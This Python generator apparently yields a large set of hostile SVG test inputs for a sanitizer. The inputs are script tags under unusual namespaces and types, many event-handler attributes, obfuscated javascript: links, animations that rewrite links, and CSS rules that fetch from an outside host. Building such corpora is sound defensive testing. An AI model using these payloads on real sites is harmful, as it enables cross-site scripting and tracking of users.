"""Further hostile drawings for drawings.py: names, handlers, movements, links, styles and attributes of newer browsers."""

SVG = "http://www.w3.org/2000/svg"
X = "http://www.w3.org/1999/xhtml"
XL = "http://www.w3.org/1999/xlink"


def further(run, at):
    b = '<rect width="200" height="200" fill="#eee"/>'
    # scripts with odd names, types, encodings and places
    for t in [
        "application/ecmascript",
        "text/javascript;charset=utf-7",
        "module",
        "importmap",
        "speculationrules",
        "text/vbscript",
        "",
    ]:
        yield f'<script type="{t}">{run}</script>'
    for p in ["a.b", "a-b", "é", "ℵ", "_1", "xmlns_", "xml_", "svg.svg"]:
        yield f'<{p}:script xmlns:{p}="{SVG}">{run}</{p}:script>'
    yield f'<g xmlns="http://www.w3.org/2000/svg"><g xmlns="{X}"><script>{run}</script></g></g>'
    yield f'<s:g xmlns:s="{SVG}"><s:g xmlns:s="{X}"><s:script>{run}</s:script></s:g></s:g>'
    for h in [
        "title",
        "desc",
        "metadata",
        "text",
        "defs",
        "pattern",
        "clipPath",
        "mask",
        "marker",
        "symbol",
        "linearGradient",
        "filter",
        "glyph",
        "font",
        "switch",
        "tspan",
        "textPath",
    ]:
        yield f'<{h}><g onclick="{run}" onmouseover="{run}">{b}</g></{h}>'
        yield f'<{h}><x:div xmlns:x="{X}" onload="{run}"><x:img src="{at}/i"/></x:div></{h}>'
    for ev in [
        "onwheel",
        "onanimationend",
        "ontransitionend",
        "ontoggle",
        "onbeforetoggle",
        "onscroll",
        "onscrollend",
        "onauxclick",
        "oncontextmenu",
        "onpaste",
        "onkeydown",
        "onformdata",
        "onvisibilitychange",
        "onmessage",
        "onpageshow",
        "onhashchange",
        "onbeforeprint",
        "onsecuritypolicyviolation",
        "onslotchange",
        "oncontentvisibilityautostatechange",
        "onpointerrawupdate",
        "onfullscreenchange",
        "onzoom",
        "onabort",
        "onshow",
        "ONCLICK",
        "onClick",
    ]:
        yield f'<g {ev}="{run}" tabindex="0">{b}</g>'
    # animation in other namespaces, by spelling, nested
    for n in ["animate", "set", "animateMotion", "animateTransform", "animateColor", "ANIMATE", "discard"]:
        yield f'<q:{n} xmlns:q="{SVG}" attributeName="href" values="javascript:{run}" to="javascript:{run}" begin="0s"/>'
        yield f'<a href="#a">{b}<{n} attributeName="href" to="javascript:{run}" begin="click" fill="freeze"/></a>'
    # links
    for u in [
        f"javascript&#x3A;{run}",
        f"&#xA0;javascript:{run}",
        f"javascript\u200b:{run}",
        f"ｊavascript:{run}",
        f"view-source:{at}/x",
        "about:blank",
        "intent:x",
        "ms-settings:x",
        "search-ms:query=x",
        "tel:110",
        "sms:110",
        "//127.0.0.1:9/x",
        f"{at}\\x",
        f"#a\n{at}",
        "#a javascript:",
        "%6Aavascript:x",
        "./",
        ".",
        "..",
        "\\\\host\\x",
        "file:x",
        "filesystem:x",
        "ftp://x/",
        "ws://x/",
        "cid:x",
        "resource:x",
        "chrome:x",
    ]:
        yield f'<a href="{u}">{b}</a>'
        yield f'<a xmlns:z="{XL}" z:href="{u}" href="#a">{b}</a>'
    for at_ in [
        'target="_top"',
        'rel="noopener"',
        'referrerpolicy="unsafe-url"',
        'ping="/x"',
        'download=""',
        'hreflang="x"',
        'attributionsrc="/x"',
    ]:
        yield f'<a href="javascript:{run}" {at_}>{b}</a>'
    # fetch by css
    for s in [
        '@import "%s" layer(x);',
        '@import url("%s") supports(display:block);',
        '@\nimport "%s";',
        '@import\n"%s";',
        '@import/**/"%s";',
        "@IMPORT url(%s);",
        "svg{background:\\75 rl(%s)}",
        "svg{background:u\\\nrl(%s)}",
        "rect{fill:url( %s )}",
        'rect{fill:url("%s"}',
        "rect{filter:url(%s) blur(1px)}",
        "rect{clip-path:url(%s)}",
        "rect{offset-path:url(%s)}",
        "rect{shape-outside:url(%s)}",
        "rect{mask:linear-gradient(red,blue),url(%s)}",
        'rect{background:image-set(url(%s) 1x,"b" 2x)}',
        "rect{background:paint(x),url(%s)}",
        "rect{background:element(#a),url(%s)}",
        "svg::before{content:url(%s)}",
        "svg{cursor:url(%s) 1 1,auto}",
        "@font-face{font-family:a;src:local(x),url(%s)}*{font-family:a}",
        '@font-feature-values x{}@import "%s";',
        '@property --x{syntax:"<url>";inherits:false;initial-value:url(%s)}',
        "@counter-style x{system:cyclic;symbols:url(%s)}",
        "@page{background:url(%s)}",
        "@media all{svg{background:url(%s)}}",
        "@supports (display:block){svg{background:url(%s)}}",
        "@container (width>0){svg{background:url(%s)}}",
        "@scope (svg){rect{fill:url(%s)}}",
        "@layer x{svg{background:url(%s)}}",
        "@starting-style{svg{background:url(%s)}}",
        "svg{--a:url(%s);background:var(--a)}",
        "svg{background:var(--b,url(%s))}",
        "svg{background:-webkit-cross-fade(url(%s),url(%s),50%%)}",
        "svg{-webkit-mask-box-image:url(%s)}",
        "svg{-webkit-box-reflect:below 0 url(%s)}",
        "svg{list-style:url(%s)}",
        "svg{border-image-source:url(%s)}",
        'svg{quotes:"a" "b";content:url(%s)}',
        'rect{d:path("M0 0");fill:url(%s#a)}',
        "rect{marker:url(%s)}",
        "rect{stroke:url(%s) red}",
        "rect{src:url(%s)}",
        'svg{background:src("%s")}',
        "svg{background:if(style(--x):url(%s))}",
        "<!-- svg{background:url(%s)} -->",
        "rect{fill:url(\u00a0%s)}",
        '@charset "utf-7";svg{background:url(%s)}',
    ]:
        u = f"{at}/c"
        st = s.replace("%s", u).replace("%%", "%")
        st_ = st.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        yield f"<style>{st_}</style>"
        yield f'<style type="text/css" media="all"><![CDATA[{st}]]></style>'
        if "{" in st and not st.startswith("@"):
            inner = st[st.index("{") + 1 : st.rindex("}")] if "}" in st else st[st.index("{") + 1 :]
            yield '<rect width="9" height="9" style="%s"/>' % inner.replace("&", "&amp;").replace(
                '"', "&quot;"
            ).replace("<", "&lt;")
    for n in [
        "feImage",
        "image",
        "use",
        "textPath",
        "mpath",
        "tref",
        "script",
        "cursor",
        "altGlyph",
        "glyphRef",
        "filter",
        "pattern",
        "radialGradient",
        "hatch",
        "mesh",
        "video",
        "audio",
        "iframe",
        "canvas",
        "source",
        "track",
        "foreignObject",
        'image x:y="1" xmlns:x="urn:x"',
    ]:
        yield f'<{n} href="{at}/f" xlink:href="{at}/f" src="{at}/f" width="9" height="9"/>'
        yield f'<{n} href="data:text/html,&lt;script>{run}&lt;/script>" width="9" height="9"/>'
    for d in [
        "data:image/svg+xml;base64,PHN2Zy8+",
        "data:image/png;base64;x,AA",
        "data:image/bmp;base64,Qk0=",
        "data:image/avif;base64,AA",
        "data:,x",
        "data:image/png;charset=utf-7;base64,AA",
        "data:image/jpeg;base64,PHNjcmlwdD4=",
    ]:
        yield f'<image href="{d}" width="9" height="9"/>'
    for n, v in [
        ("xml:base", at + "/"),
        ("xmlns:xml", "http://www.w3.org/XML/1998/namespace"),
        ("xlink:actuate", "onLoad"),
        ("xlink:role", at + "/x"),
        ("xlink:arcrole", "x"),
        ("xlink:label", "x"),
        ("externalResourcesRequired", "true"),
        ("style", f"background:url({at}/x)"),
        ("nonce", "x"),
        ("autofocus", ""),
        ("popover", "auto"),
        ("popovertarget", "a"),
        ("is", "x-y"),
        ("part", "x"),
        ("slot", "x"),
        ("inert", ""),
        ("contenteditable", "true"),
        ("srcdoc", "x"),
        ("action", "x"),
        ("formaction", "x"),
        ("background", at + "/x"),
        ("lowsrc", at + "/x"),
        ("dynsrc", at + "/x"),
        ("poster", at + "/x"),
        ("data", at + "/x"),
        ("classid", "x"),
        ("codebase", at + "/"),
        ("usemap", "#a"),
        ("longdesc", at + "/x"),
        ("cite", at + "/x"),
        ("manifest", at + "/x"),
        ("profile", at + "/x"),
        ("begin", "0s"),
        ("handler", "#a"),
        ("event", "click"),
    ]:
        yield (
            f'<g {n}="{v}">{b}</g>'
            if n != "xmlns:xml"
            else f'<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="#a">{b}</g>'
        )
    for ns in [
        "http://www.w3.org/1998/Math/MathML",
        "http://www.w3.org/1999/XSL/Transform",
        "http://www.w3.org/2001/XInclude",
        "http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul",
        "http://www.w3.org/2002/xforms",
        "urn:schemas-microsoft-com:vml",
        "urn:schemas-microsoft-com:time",
        "http://www.w3.org/TR/REC-smil",
        "http://www.w3.org/2001/xml-events",
        "http://www.w3.org/2000/svg ",
        "HTTP://www.w3.org/1999/xhtml",
        "http://www.w3.org/1999/xhtml/",
        "http://www.w3.org/2005/Atom",
        "http://purl.org/rss/1.0/",
    ]:
        yield f'<n:script xmlns:n="{ns}">{run}</n:script>'
